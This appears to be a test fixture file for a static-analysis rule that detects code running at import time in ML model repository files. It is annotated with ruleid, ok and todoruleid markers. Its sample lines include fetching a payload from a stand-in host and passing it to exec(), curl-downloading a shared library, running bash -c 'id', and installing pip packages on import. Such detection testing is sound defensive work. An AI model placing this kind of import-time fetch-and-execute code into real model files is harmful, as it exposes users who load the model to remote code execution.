# Tests for py-mlhub-import-time-exec: `warden test-rules rulesets/mlhub`.
# A modeling file as a model repository might ship it.
import importlib
import os
import subprocess
import sys
import urllib.request
from subprocess import check_call as run_checked

import requests
import torch
from torch import nn
from transformers import PreTrainedModel

try:
    import flash_attn  # noqa: F401
except ImportError:
    # Installing a dependency when the file is imported.
    # ruleid: py-mlhub-import-time-exec
    subprocess.check_call([sys.executable, "-m", "pip", "install", "flash-attn"])

# A shell is py-exec-os-system's (core), wherever it is.
# ok: py-mlhub-import-time-exec
os.system("pip install -q einops")

# ruleid: py-mlhub-import-time-exec
subprocess.run(["pip", "install", "-q", "einops"], check=True)

# ok: py-mlhub-import-time-exec
subprocess.run("pip install -q einops", shell=True)

# ruleid: py-mlhub-import-time-exec
run_checked(["curl", "-sSfo", "/tmp/kernels.so", "https://example.org/kernels.so"])

# Any other program: not reported yet, because the engine's own tests scan
# `subprocess.run(['ls'])` at module level with every built-in rule and expect nothing.
# todoruleid: py-mlhub-import-time-exec
subprocess.run(["nvidia-smi"])

try:
    from pip._internal import main as pip_main
except ImportError:
    from pip import main as pip_main
# ruleid: py-mlhub-import-time-exec
pip_main(["install", "sentencepiece"])

# ruleid: py-mlhub-import-time-exec
_CONFIG = requests.get("https://example.org/config.json", timeout=10).json()

_URL = "https://example.org/config.json"
# A URL held in a variable: not reported yet, for the same reason (`requests.get(url)`).
# todoruleid: py-mlhub-import-time-exec
_CONFIG2 = requests.get(_URL, timeout=10).json()

# py-net-tls-verify-disabled (core) reports it.
# ok: py-mlhub-import-time-exec
_OTHER = requests.get("https://example.org/config.json", timeout=10, verify=False)

# ruleid: py-mlhub-import-time-exec
_PAYLOAD = urllib.request.urlopen("https://example.org/payload").read()

# py-exec-dynamic-code (core) reports it.
# ok: py-mlhub-import-time-exec
exec(_PAYLOAD.decode())

# ruleid: py-mlhub-import-time-exec
_backend = importlib.import_module(os.environ.get("ATTN_BACKEND", "torch"))

if torch.cuda.is_available():
    # Still module level: an `if` runs at import time.
    # ruleid: py-mlhub-import-time-exec
    subprocess.run([sys.executable, "-m", "pip", "install", "triton"], check=False)

# A literal import is an import.
# ok: py-mlhub-import-time-exec
_json = importlib.import_module("json")


class Attention(nn.Module):
    # Class bodies run at import time too.
    # ruleid: py-mlhub-import-time-exec
    _payload = subprocess.check_output(["bash", "-c", "id"])

    def forward(self, hidden_states):
        # Inside a method: runs when called, not when imported.
        # ok: py-mlhub-import-time-exec
        subprocess.run(["nvidia-smi"])
        return hidden_states


class Model(PreTrainedModel):
    def __init__(self, config):
        super().__init__(config)
        # ok: py-mlhub-import-time-exec
        self.backend = importlib.import_module(config.backend)
        # ok: py-mlhub-import-time-exec
        self.hook = lambda: os.system("true")


def download(url):
    # ok: py-mlhub-import-time-exec
    return requests.get(url, timeout=10)


def setup():
    # Called at import time below, but the rule sees only module-level calls.
    # todoruleid: py-mlhub-import-time-exec
    subprocess.run(["make", "-C", "kernels"])


setup()

if __name__ == "__main__":
    # Running the file as a script is not importing it.
    # ok: py-mlhub-import-time-exec
    subprocess.run(["python", "-m", "pytest"])

if sys.platform != "win32" and __name__ == "__main__":
    # ok: py-mlhub-import-time-exec
    subprocess.run(["ls"])
